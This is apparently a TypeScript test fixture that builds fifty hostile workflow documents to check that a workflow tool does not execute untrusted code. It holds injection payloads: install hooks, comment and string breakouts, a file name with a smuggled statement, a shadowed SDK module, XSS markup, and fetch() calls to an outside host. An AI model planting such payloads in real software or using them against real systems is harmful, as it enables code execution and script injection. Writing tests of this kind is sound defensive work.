// Fifty documents as somebody with bad intent would send them: code that wants to run when it is opened, compiled,
// named, shown or joined with other code.
import { serializeWorkflow } from '#workflow'
import { buildWorkflow } from '#workflow/testing'

/** Said by every line of theirs that runs: in the log, in the page, at the server outside. */
const callHome = (outside: string, how: string): string =>
  `console.log('ran'); try { globalThis.breached = '${how}' } catch {} try { fetch('${outside}/${how}').catch(() => {}) } catch {}`

const HANDLER = 'export const handler = async () => 1\n'

/** By what they try: the text of the handler's file, given a call home. */
const FILES: readonly ((home: string) => Readonly<Record<string, string>>)[] = [
  (home) => ({ 'index.mjs': `${home}\n${HANDLER}` }),
  (home) => ({ 'index.mjs': `export const handler = async () => { ${home} }\n` }),
  (home) => ({ 'index.mjs': `import './side.mjs'\n${HANDLER}`, 'side.mjs': home }),
  (home) => ({ 'index.mjs': `await (async () => { ${home} })()\n${HANDLER}` }),
  (home) => ({ 'index.ts': `class A { static { ${home} } }\n${HANDLER}` }),
  (home) => ({ 'index.ts': `enum E { A = (() => { ${home}; return 1 })() }\n${HANDLER}` }),
  (home) => ({ 'index.cjs': `${home}; exports.handler = async () => 1\n` }),
  (home) => ({ 'index.mjs': `}); ${home}; (async () => {\n${HANDLER}` }),
  (home) => ({ 'index.mjs': `*/ ${home} /*\n${HANDLER}` }),
  (home) => ({ 'index.mjs': `\`); ${home}; (\`\n${HANDLER}` }),
  (home) => ({ 'index.mjs': `${HANDLER}</script><script>${home}</script>` }),
  (home) => ({ 'index.mjs': `${HANDLER}<!-- ${home} -->\u2028${home}` }),
  (home) => ({ 'index.mjs': HANDLER, "x');breached=1;('.mjs": home }),
  (home) => ({ 'index.mjs': HANDLER, 'package.json': `{"main":"x","scripts":{"install":${JSON.stringify(home)}}}` }),
  (home) => ({ 'index.mjs': HANDLER, 'node_modules/@aws-sdk/client-sqs/index.js': home }),
  (home) => ({ 'index.mjs': `for (;;) { ${home} }` }),
  (home) => ({ 'index.mjs': `#!/usr/bin/env node\n${home}\n${HANDLER}` }),
]

const SCHEMES = ['javascript:breached=1', '"><img src=x onerror=breached=1>', '<svg onload=breached=1>']

/** Each opens as a valid document; the last one says so in the log when it is allowed. */
export function hostileDocuments(outside: string): readonly { readonly name: string; readonly text: string }[] {
  return Array.from({ length: 50 }, (_, index) => {
    const home = callHome(outside, `document-${index}`)
    const make = FILES[(49 - index) % FILES.length] as (home: string) => Readonly<Record<string, string>>
    const files = Object.fromEntries(Object.entries(make(home)).map(([path, text]) => [`work/${path}`, text]))
    const markup = SCHEMES[index % SCHEMES.length] as string
    const workflow = buildWorkflow({
      nodes: {
        Work: ['function', { codeUri: 'work', environment: { HOME_CALL: home } }],
        Caller: [
          'client',
          { arrivals: { shape: 'single' }, body: home, headers: { 'x-markup': markup }, path: `/${markup}` },
        ],
        Clock: ['schedule', { expression: 'rate(1 minute)' }],
        Api: ['http-api', {}],
        Jobs: ['queue', {}],
        Bank: ['service', { baseUrl: outside, body: markup }],
      },
      edges: {
        'Caller.call > Work.invoke': {},
        'Clock.fire > Work.invoke': { input: JSON.stringify(home) },
        'Api.route > Work.invoke': {},
        'Jobs.consume > Work.invoke': {},
        'Work.call > Bank.request': {},
      },
      files,
      scenario: { duration: '5s' },
    })
    const text = serializeWorkflow({
      ...workflow,
      name: `Hostile ${index} ${markup}`,
      notes: { m1: { text: markup, position: { x: 0, y: 0 } } },
    })
    return { name: `document ${index}`, text }
  })
}
